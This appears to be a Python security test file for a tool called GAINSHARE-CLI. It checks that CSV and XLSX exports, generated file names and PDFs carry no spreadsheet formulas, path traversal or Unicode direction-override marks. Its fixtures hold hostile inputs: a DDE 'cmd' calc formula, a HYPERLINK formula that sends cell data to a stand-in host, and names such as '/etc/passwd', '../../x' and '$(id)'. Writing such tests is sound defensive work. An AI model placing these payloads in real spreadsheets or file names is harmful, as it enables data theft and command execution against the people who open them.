#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""hostile.py GAINSHARE-CLI: texts that were made to do harm, in every field of a workspace.

Formulas: no cell of any CSV or XLSX that people open is taken for one. Names of practices, departments and people that
lead out of a folder: each file stays in it, under a name that every disk takes. Marks that turn the direction of
writing reach no file.
"""
import csv
import importlib.util
import json
import os
import re
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "support"))
sys.path.insert(0, HERE)
import tap
from hostile_workspace import PERIOD, Workspace

spec = importlib.util.spec_from_file_location("xlsx_cells", os.path.join(HERE, "..", "files", "xlsx-cells.py"))
xlsx_cells = importlib.util.module_from_spec(spec)
spec.loader.exec_module(xlsx_cells)

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "=1+1"]
NUMBER = re.compile(r"[+-]?[0-9][0-9,]*(\.[0-9]+)?$")
# Read by programs; the contract "Files" says: no guard.
FOR_PROGRAMS = {"scorecards", "distribute"}

NAMES = ["../../x", "..", "/etc/passwd", "a/b", "a\\b", "CON", "nul.pdf", "-rf", "--out=x", "n" * 300, "\U0001f600\U0001f600",
         "Elm", "ELM", "Elm ", "\u202egpj.exe", "%n%s", "a\u0000b".replace("\u0000", "\u0001"), "two\nlines", "~root", "$(id)",
         "\u05d0\u05d1\u05d2", ".hidden"]
N_NAMES = len({name.strip() for name in NAMES})
SAFE = re.compile(r"[A-Za-z0-9][A-Za-z0-9-]{0,160}\.pdf$")

OVERRIDES = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def formula_text(slot):
    return FORMULAS[sum(slot.encode()) % len(FORMULAS)] + f" {slot}"


def csv_faults(path):
    with open(path, encoding="utf-8", newline="") as stream:
        for row, line in enumerate(csv.reader(stream), 1):
            for cell in line:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.match(cell):
                    yield f"{os.path.basename(path)}:{row}: {cell[:60]}"


def xlsx_faults(path):
    for row in xlsx_cells.Sheet(path).rows:
        for place, kind, _, _, value in row:
            if kind == "formula":
                yield f"{os.path.basename(path)}!{place}: {value}"


def formulas(cli, folder):
    workspace = Workspace(cli, folder, 3, formula_text)
    n_files = 0
    for ending, faults in ((".csv", csv_faults), (".xlsx", xlsx_faults)):
        found = []
        for name, words in workspace.tables(ending):
            path = os.path.join(folder, name.replace(" ", "-") + ending)
            workspace.run(*words, "--out", path)
            n_files += 1
            if name not in FOR_PROGRAMS or ending == ".xlsx":
                found += faults(path)
        tap.check(f"/hostile/formulas{ending}", found[:20])
    rejects = os.path.join(folder, "rejects.csv")
    workspace.take("flags", 'id,performance_year,flag,value\n=1+1,2025,@x,yes\n+1,2025,"=cmd|x",maybe\n', "--rejects", rejects,
                   ok=(3,))
    tap.check("/hostile/formulas/not-imported", list(csv_faults(rejects)))
    # The ledger guards nothing, so a plan whose groups are called so doesn't come in.
    plan = dict(workspace.files())["plan"]
    path_of_plan = os.path.join(folder, "group.json")
    came_in = []
    for formula in FORMULAS:
        document = json.loads(plan)
        document["groups"][0]["id"] = formula
        with open(path_of_plan, "w", encoding="utf-8") as stream:
            json.dump(document, stream)
        for words in (["import", workspace.path, "plan", path_of_plan],
                      ["distribute", workspace.path, "--plan", path_of_plan, "--period", PERIOD]):
            _, err = workspace.run(*words, ok=(0, 1))
            if "for a formula; begin the id with a letter" not in err:
                came_in.append(f"{words[0]} {formula}")
    tap.check("/hostile/formulas/group-ids", came_in)
    print(f"# {n_files} tables of a workspace full of formulas")


def name_text(slot):
    kind, _, number = slot.rpartition(" ")
    if kind in ("practice", "department", "last name"):
        return NAMES[int(number) // (2 if kind == "last name" else 1) % len(NAMES)]
    return "../../" + slot if slot in ("aco", "diagram", "manager") else slot


def everything(folder):
    return {os.path.relpath(os.path.join(at, name), folder) for at, folders, names in os.walk(folder) for name in names + folders}


def names(cli, folder):
    inner = os.path.join(folder, "a", "b", "c")
    os.makedirs(inner)
    workspace = Workspace(cli, inner, len(NAMES), name_text)
    for name, words in workspace.folders():
        out = os.path.join(inner, "out-" + name)
        before = everything(folder)
        workspace.run(*words, "--out", out)
        inside = os.path.relpath(out, folder)
        faults = [f"made {path}" for path in sorted(everything(folder) - before)
                  if path != inside and os.path.dirname(path) != inside and not path.endswith(("-wal", "-shm"))]
        files = os.listdir(out)
        faults += [f"named {file!r}" for file in files if not SAFE.match(file)]
        if len({file.lower() for file in files}) < len(files):
            faults.append(f"names that differ by case only: {sorted(files, key=str.lower)}")
        if len(files) < N_NAMES:
            faults.append(f"{len(files)} files for {N_NAMES} names")
        tap.check(f"/hostile/names/{name}", faults)


def override_text(slot):
    return f"\u202e{slot}\u202c \u2066{slot}\u2069"


def overrides(cli, folder):
    workspace = Workspace(cli, folder, 2, override_text)
    workspace.text = lambda slot: override_text(slot).translate({ord(mark): None for mark in OVERRIDES})
    found = []
    for name, words in workspace.tables(".csv"):
        path = os.path.join(folder, name.replace(" ", "-") + ".csv")
        workspace.run(*words, "--out", path)
        with open(path, encoding="utf-8") as stream:
            text = stream.read()
        found += [f"{name}: U+{ord(mark):04X}" for mark in OVERRIDES if mark in text]
    for name, words in workspace.folders():
        out = os.path.join(folder, "pdf-" + name)
        workspace.run(*words, "--out", out)
        for file in os.listdir(out):
            text = subprocess.run(["pdftotext", os.path.join(out, file), "-"], capture_output=True, check=True).stdout.decode()
            found += [f"{name}/{file}: U+{ord(mark):04X}" for mark in "\u202d\u202e\u2066\u2067\u2068" if mark in text]
    tap.check("/hostile/overrides", found[:20])


def main(cli):
    for part in (formulas, names, overrides):
        with tempfile.TemporaryDirectory(prefix="gainshare-hostile-") as folder:
            part(cli, folder)
    tap.finish()


if __name__ == "__main__":
    main(sys.argv[1])
